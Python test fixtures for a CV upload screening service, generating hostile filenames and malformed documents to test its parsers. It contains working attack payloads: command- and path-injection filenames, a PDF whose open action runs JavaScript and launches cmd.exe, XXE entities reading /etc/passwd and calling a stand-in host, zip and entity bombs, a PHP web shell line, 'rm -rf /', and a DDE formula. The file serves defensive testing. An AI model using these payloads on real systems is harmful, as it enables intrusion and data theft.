"""Files and names that attackers and broken programs send, built on the spot; none is real malware.

`documents(address)` gives every hostile file by name; `address` is a server that must never be asked for
anything. `NAMES` are the odd names a file may come with. Used by tests, and by the measurement of an upload.
"""

import struct
import zlib
from collections.abc import Callable
from functools import partial
from pathlib import Path

from tests.screening.parsing import files
from tests.screening.parsing.files import Words

DEMO = Path(__file__).resolve().parents[3] / "screening" / "demo"
GOOD = (DEMO / "lucia-ferrer.pdf").read_bytes()
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>"
PROSE = "Ana Prueba Ejemplo, responsable de turno, ana@example.com"
_ESCAPED = PROSE + MARKUP.replace("<", "&lt;").replace(">", "&gt;")
_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"

NAMES = (
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\cv.pdf",
    "/etc/cron.d/cv",
    "C:\\Users\\ana\\cv.pdf",
    "\\\\server\\share\\cv.pdf",
    "cv.pdf\x00.exe",
    "cv\r\nSet-Cookie: a=b.pdf",
    "cv\r\n\r\n<script>alert(1)</script>.pdf",
    "\u202efdp.exe",
    "cv\u202egpj.pdf",
    "a" * 296 + ".pdf",
    "ñ" * 200 + ".pdf",
    "📄🎉👩‍🍳.pdf",
    "CON",
    "nul.pdf",
    "COM1.pdf",
    "LPT9.pdf",
    ".",
    "..",
    ".htaccess",
    ".pdf",
    " ",
    "-rf.pdf",
    "$(id).pdf",
    "`id`.pdf",
    "cv;id|id&&id.pdf",
    "cv%2e%2e%2fpasswd.pdf",
    "cv%00.pdf",
    '"><script>alert(1)</script>.pdf',
    "'; DROP TABLE application; --.pdf",
    "{{ 7*7 }}.pdf",
    "cv.pdf.exe",
    "履歴書.pdf",
    "e\u0301\u0301\u0301\u0301.pdf",
    "cv\t.pdf",
    "cv.pdf:stream",
)


def documents(address: str = "http://192.0.2.1:9") -> dict[str, Callable[[], bytes]]:
    """Return a maker for each hostile document by its name."""
    return {
        "no bytes": bytes,
        "blanks": lambda: b" \n\t\x00" * 400,
        "noise": lambda: bytes(range(256)) * 64,
        "a PDF cut short": lambda: GOOD[: len(GOOD) // 3],
        "a PDF of nothing": lambda: b"%PDF-1.7\n%%EOF",
        "a PDF that asks for a password": lambda: (DEMO / "pau-llorens-locked.pdf").read_bytes(),
        "a PDF that acts": partial(acting_pdf, address),
        "a page tree that loops": lambda: _tree(b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"),
        "a page tree that counts wrong": lambda: _tree(b"<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>"),
        "a cross reference that loops": looping_xref,
        "a form within itself": looping_form,
        "three hundred pages": lambda: files.pdf(*([Words(f"{PROSE} {n}", 50, 50)] for n in range(300))),
        "a million letters": lambda: files.pdf(
            [Words("word " * 40, 20, 20 + n / 10, 8) for n in range(5000)]
        ),
        "a page of ten kilometres": lambda: files.pdf(
            [Words(PROSE, 50, 50)], page="/MediaBox [0 0 28346000 28346000]"
        ),
        "a PDF and a Word file": lambda: GOOD + files.docx(files.paragraphs(PROSE)),
        "a Word file behind a PDF's head": lambda: b"%PDF-1.4\n" + files.docx(files.paragraphs(PROSE)),
        "a web page and a PDF": lambda: f"<html><!-- {MARKUP}\n".encode() + GOOD,
        "a GIF and a web page": lambda: b"GIF89a=1;//" + f"<html><body>{MARKUP}</body></html>".encode(),
        "a drawing with a script": lambda: f"<svg xmlns='http://www.w3.org/2000/svg'>{MARKUP}</svg>".encode(),
        "a program": lambda: b"MZ\x90\x00" + bytes(range(256)) * 20,
        "a script": lambda: b"#!/bin/sh\nrm -rf /\n",
        "a PHP page": lambda: b"<?php system($_GET['c']); ?>\n" * 20,
        "an old Word file": lambda: _ole("WordDocument"),
        "a Word file with a password": lambda: _ole("EncryptedPackage"),
        "an encrypted OpenDocument": locked_odt,
        "a Word file cut short": lambda: files.docx(files.paragraphs(PROSE))[:-200],
        "a zip of something else": lambda: files.archive({"readme.txt": PROSE}),
        "a zip in a zip in a zip": nested_zip,
        "a zip that unpacks to 60 MB": lambda: files.archive({"word/document.xml": b" " * (60 << 20)}),
        "a zip whose entries overlap": overlapping_zip,
        "a zip that climbs out": lambda: files.docx(files.paragraphs(PROSE), **{"../../etc/cron.d/x": "x"}),
        "a Word file of 2,100 parts": lambda: files.docx(
            "", **{f"word/{n}.xml": "<a/>" for n in range(2100)}
        ),
        "a Word file with an entity": partial(with_entity, address, "docx"),
        "an OpenDocument with an entity": partial(with_entity, address, "odt"),
        "entities that multiply": multiplying_entities,
        "a Word file 5,000 deep": lambda: files.docx("<w:tbl>" * 5000 + "</w:tbl>" * 5000),
        "tables in tables": nested_tables,
        "a Word file that points outside": partial(pointing_docx, address),
        "rich text 100,000 deep": lambda: b"{\\rtf1" + b"{" * 100_000,
        "rich text that fetches": partial(fetching_rtf, address),
        "rich text with too long a binary": lambda: b"{\\rtf1 \\bin999999999 " + PROSE.encode() + b"}",
        "a web page that fetches": partial(fetching_page, address),
        "a web page 50,000 deep": lambda: b"<html>" + b"<div>" * 50_000 + PROSE.encode(),
        "a style sheet of 20,000 rules": styled_page,
        "a picture of 60,000 by 60,000": lambda: _png(60_000, 60_000),
        "a picture cut short": lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(50),
        "one endless line": lambda: b"word" * 400_000,
        "a heading of 60,000 blanks": lambda: b"# Ana\n# a" + b" " * 60_000 + b"b\n" + PROSE.encode(),
        "a million brackets": lambda: b"(" * 1_000_000,
        "a hundred thousand lines": lambda: b"Java, 2019 - 2021\n" * 100_000,
        "markup in plain text": lambda: f"{PROSE}\n{MARKUP}\nHabilidades\n{MARKUP}, Excel".encode(),
        "markup in a Word file": lambda: files.docx(files.paragraphs(f"{_ESCAPED}\nHabilidades\n{_ESCAPED}")),
        "formulas of a table": lambda: f"{PROSE}\nHabilidades\n=cmd|' /C calc'!A0, @SUM(1)".encode(),
    }


def acting_pdf(address: str) -> bytes:
    """Return a PDF that would run a script, start a program and send itself away when it is opened."""
    site = address.encode()
    actions = (
        b"<< /S /JavaScript /JS (app.launchURL\\('%s/js'\\)) /Next << /S /Launch /F (cmd.exe) /Next"
        b" << /S /URI /URI (%s/uri) /Next << /S /SubmitForm /F (%s/form) /Next"
        b" << /S /GoToR /F << /FS /URL /F (%s/other.pdf) >> >> >> >> >> >>"
    ) % (site, site, site, site)
    words = f"BT /F1 10 Tf 50 700 Td ({PROSE}) Tj ET".encode()
    font = b"<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
    names = b"/Names << /JavaScript << /Names [(x) %s] >> >>" % actions
    return files.assemble(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction %s %s >>" % (actions, names),
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            _PAGE[:-2] + b"/Contents 4 0 R /Resources %s /AA << /O %s >> >>" % (font, actions),
            b"<< /Length %d >>\nstream\n%s\nendstream" % (len(words), words),
        ]
    )


def _tree(pages: bytes) -> bytes:
    return files.assemble([b"<< /Type /Catalog /Pages 2 0 R >>", pages, _PAGE])


def looping_xref() -> bytes:
    """Return a PDF whose table of objects says that the one before it is itself."""
    data = files.pdf([Words(PROSE, 50, 50)])
    place = data.rindex(b"xref\n0")
    return data.replace(b"trailer <<", b"trailer << /Prev %d" % place, 1)


def looping_form() -> bytes:
    """Return a PDF whose page draws a form that draws itself."""
    stream = b"<< /Length 5 %s >>\nstream\n/F Do\nendstream"
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 5 0 R >> >>"
    page = _PAGE[:-2] + b"/Contents 4 0 R /Resources << /XObject << /F 5 0 R >> >> >>"
    tree = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    return files.assemble([b"<< /Type /Catalog /Pages 2 0 R >>", tree, page, stream % b"", stream % form])


def _ole(stream: str) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + stream.encode("utf-16-le") + bytes(2048)


def locked_odt() -> bytes:
    """Return an OpenDocument whose manifest says that its parts are encrypted."""
    manifest = (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        '<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/>'
        "</manifest:file-entry></manifest:manifest>"
    )
    mime = "application/vnd.oasis.opendocument.text"
    return files.archive({"mimetype": mime, "content.xml": b"\x00" * 99, "META-INF/manifest.xml": manifest})


def nested_zip() -> bytes:
    """Return a Word file that holds an archive in an archive."""
    inner: bytes = b" " * (4 << 20)
    for _ in range(4):
        inner = files.archive({"word/embeddings/more.zip": inner, "word/media/image1.png": inner[:99]})
    parts: dict[str, str | bytes] = {"word/embeddings/more.zip": inner}
    return files.docx(files.paragraphs(PROSE), "", **parts)


def overlapping_zip() -> bytes:
    """Return an archive whose 500 entries all stand for the same megabyte."""
    made = files.archive({"word/document.xml": b" " * (1 << 20)})
    start = made.index(b"PK\x01\x02")
    end = made.index(b"PK\x05\x06")
    directory = made[start:end] * 500
    closing = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 500, 500, len(directory), start, 0)
    return made[:start] + directory + closing


def with_entity(address: str, kind: str) -> bytes:
    """Return a file that asks for another one, here and elsewhere."""
    entity = (
        f'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "{address}/xxe">'
        f'<!ENTITY % z SYSTEM "{address}/dtd"> %z;]>'
    )
    if kind == "docx":
        return files.docx(files.paragraphs(f"{PROSE} &x; &y;"), before=entity)
    return files.odt(f"<t:p>{PROSE} &x; &y;</t:p>", before=entity)


def multiplying_entities() -> bytes:
    """Return a Word file of a kilobyte that would unfold to gigabytes."""
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return files.docx(files.paragraphs("&a9;"), before=f'<!DOCTYPE a [<!ENTITY a0 "ha">{laughs}]>')


def nested_tables() -> bytes:
    """Return a Word file whose tables stand in the cells of tables."""
    depth = 60
    body = "<w:tbl><w:tr><w:tc>" * depth + files.paragraphs(PROSE) + "</w:tc></w:tr></w:tbl>" * depth
    return files.docx(body)


def pointing_docx(address: str) -> bytes:
    """Return a Word file with a template, a picture and a frame on another machine."""
    kinds = ("attachedTemplate", "image", "frame", "oleObject")
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    links = "".join(
        f'<Relationship Id="r{kind}" Type="{office}/{kind}" Target="{address}/{kind}" TargetMode="External"/>'
        for kind in kinds
    )
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    relations = f'<Relationships xmlns="{space}">{links}</Relationships>'
    field = f'<w:p><w:r><w:instrText>INCLUDEPICTURE "{address}/field"</w:instrText></w:r></w:p>'
    parts = {"word/_rels/document.xml.rels": relations, "word/_rels/settings.xml.rels": relations}
    return files.docx(files.paragraphs(PROSE) + field, **parts)


def fetching_rtf(address: str) -> bytes:
    """Return rich text with a template, a picture and an object elsewhere."""
    return (
        rf"{{\rtf1\ansi {{\*\template {address}/dot}}{PROSE} {MARKUP}\par"
        rf'{{\field{{\*\fldinst INCLUDEPICTURE "{address}/pic"}}}}'
        rf"{{\object\objautlink\objupdate{{\*\objdata 0105}}{{\result x}}}}}}"
    ).encode()


def fetching_page(address: str) -> bytes:
    """Return a web page with everything that a browser would load, and scripts."""
    return f"""<!doctype html><html><head><base href="{address}/">
<link rel="stylesheet" href="{address}/a.css">
<meta http-equiv="refresh" content="0;url={address}/refresh"><style>@import url("{address}/b.css");
@font-face{{font-family:x;src:url({address}/f.woff)}} body{{background:url({address}/bg.png)}}</style>
<script src="{address}/x.js"></script></head><body onload="fetch('{address}/onload')"><h1>{PROSE}</h1>
<img src="{address}/y.png" onerror="alert(1)"><iframe src="{address}/frame"></iframe>
<object data="{address}/object"></object><p style="background:url({address}/inline.png)">{_ESCAPED}</p>
<form action="{address}/form"><input name="q" value="{PROSE}"></form></body></html>""".encode()


def styled_page() -> bytes:
    """Return a web page with more rules and elements than any page has."""
    rules = "".join(f"div div div.c{n} > p:nth-child({n}) ~ span{{color:red}}" for n in range(20_000))
    return f"<html><style>{rules}</style>{'<div><p>x</p><span>y</span></div>' * 2000}{PROSE}</html>".encode()


def _png(width: int, height: int) -> bytes:
    """Return a picture that declares a size and holds a few of its rows."""

    def chunk(name: bytes, data: bytes) -> bytes:
        packed = name + data
        return struct.pack(">I", len(data)) + packed + struct.pack(">I", zlib.crc32(packed))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(1 << 20))) + chunk(b"IEND", b"")
